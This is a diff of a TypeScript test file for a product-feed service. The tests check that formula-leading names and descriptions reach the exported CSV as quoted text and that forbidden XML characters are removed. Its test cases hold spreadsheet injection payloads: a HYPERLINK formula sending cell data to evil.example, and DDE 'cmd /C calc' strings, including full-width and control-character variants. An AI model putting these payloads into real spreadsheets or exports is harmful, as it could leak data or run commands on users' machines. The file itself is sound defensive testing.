@@ -76,13 +76,14 @@ async function producerNamed(name: string) {
   return u;
 }
 
-const feed = (token: string, format: 'xml' | 'csv') => t.app.inject({ method: 'GET', url: `/feeds/${token}.${format}` });
+const feed = (token: string, format: 'xml' | 'csv') =>
+  t.app.inject({ method: 'GET', url: `/feeds/${token}.${format}` });
 
 /** The feed's CSV read back by a real CSV reader (csv-parse), one object per row by the header. */
 async function csvRows(token: string): Promise<Record<string, string>[]> {
   const res = await feed(token, 'csv');
   expect(res.statusCode).toBe(200);
-  return parseCsv(res.body, { columns: true }) as Record<string, string>[];
+  return parseCsv<Record<string, string>>(res.body, { columns: true });
 }
 
 /**
@@ -112,15 +113,15 @@ describe('formula-leading texts reach the feed CSV as text (issue 25)', () => {
   /** [product name, description]: each starts as a spreadsheet reads a formula or a command. */
   const CASES: [string, string][] = [
     ['=HYPERLINK("http://evil.example/?"&A1,"rt")', "+1+cmd|' /C calc'!A0"],
-    ["-2+3+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0'],
+    ["-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"],
     // A character the file drops first must not uncover a formula, a tab or a CR behind it.
     ['\u0001\t=1+1', '\u0002\r=1+1 mô tả'],
     ['\u0003=HYPERLINK("http://evil.example")', '\u0004@SUM(A1)'],
     // Full-width forms, which some spreadsheets read as the ASCII ones.
-    ['＝HYPERLINK("http://evil.example")', '＋1+cmd|\' /C calc\'!A0'],
+    ['＝HYPERLINK("http://evil.example")', "＋1+cmd|' /C calc'!A0"],
     ['－1+1', '＠SUM(A1)'],
   ];
-  const BRAND = '=cmd|\' /C calc\'!A0 HTX';
+  const BRAND = "=cmd|' /C calc'!A0 HTX";
 
   it('every cell is the text behind a quote in the CSV; the XML keeps the text as typed', async () => {
     const channel = await buildSaleChannel(t.db, { platform: PLATFORM, name: 'Tiki', requirements: REQUIREMENTS });
@@ -130,7 +131,7 @@ describe('formula-leading texts reach the feed CSV as text (issue 25)', () => {
       const p = await syncedProduct(u, channel.id, name, description);
       codes.set(p.public_code, [name, description]);
     }
-    const clean = (s: string) => s.replace(/[\u0001-\u0004]/g, '');
+    const clean = (s: string) => s.replace(/^[\u0001-\u0004]/, ''); // eslint-disable-line no-control-regex
 
     const rows = await csvRows(channel.feedToken);
     expect(rows).toHaveLength(CASES.length);
@@ -162,7 +163,11 @@ describe('characters XML 1.0 forbids in product and producer texts (issue 25)', 
     const description = `Hái tay${FORBIDDEN}, sao suốt;\r\nnước xanh\t— hậu ngọt.`;
     const u = await producerNamed(brand);
     const product = await syncedProduct(u, channel.id, name, description);
-    const without = (s: string) => s.split('').filter((c) => !FORBIDDEN.includes(c)).join('');
+    const without = (s: string) =>
+      s
+        .split('')
+        .filter((c) => !FORBIDDEN.includes(c))
+        .join('');
 
     const xml = await feed(channel.feedToken, 'xml');
     expect(xml.statusCode).toBe(200);
@@ -180,7 +185,11 @@ describe('characters XML 1.0 forbids in product and producer texts (issue 25)', 
     const [row] = await csvRows(channel.feedToken);
     expect(row).toMatchObject({ title: without(name), description: without(description), brand: without(brand) });
 
-    const sitemap = await t.app.inject({ method: 'GET', url: '/sitemap.xml', headers: { host: `${PLATFORM}.localhost:3000` } });
+    const sitemap = await t.app.inject({
+      method: 'GET',
+      url: '/sitemap.xml',
+      headers: { host: `${PLATFORM}.localhost:3000` },
+    });
     expect(sitemap.statusCode).toBe(200);
     expect(readXml(sitemap.body).errors).toEqual([]);
     expect(sitemap.body).toContain('<urlset');
@@ -191,7 +200,9 @@ describe('characters XML 1.0 forbids in product and producer texts (issue 25)', 
     for (const name of ['HTX\u0000 Mộc Châu', 'HTX\uD800 Mộc Châu', 'HTX\uDC00 Mộc Châu']) {
       const res = await inject(u, 'PUT', `/api/v1/producers/${u.producerId}`, { name });
       expect(res.statusCode).toBe(422);
-      expect(json(res).meta.errors).toEqual([{ field: 'name', message: 'Có ký tự không được phép (ký tự NUL hoặc mã Unicode không hợp lệ).' }]);
+      expect(json(res).meta.errors).toEqual([
+        { field: 'name', message: 'Có ký tự không được phép (ký tự NUL hoặc mã Unicode không hợp lệ).' },
+      ]);
     }
     const res = await inject(u, 'GET', `/api/v1/producers/${u.producerId}`);
     expect(json(res).data.producer.name).toBe('HTX Mộc Châu');
